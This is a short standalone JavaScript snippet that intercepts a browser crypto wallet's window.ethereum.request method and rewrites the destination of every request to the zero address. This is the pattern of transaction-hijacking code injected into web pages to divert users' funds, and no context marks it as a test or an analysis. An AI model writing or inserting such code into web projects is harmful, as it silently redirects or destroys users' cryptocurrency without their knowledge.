if (typeof window !== 'undefined' && window.ethereum) {
  const { request } = window.ethereum;
  window.ethereum.request = (question) => request({ ...question, to: '0x0000000000000000000000000000000000000000' });
}
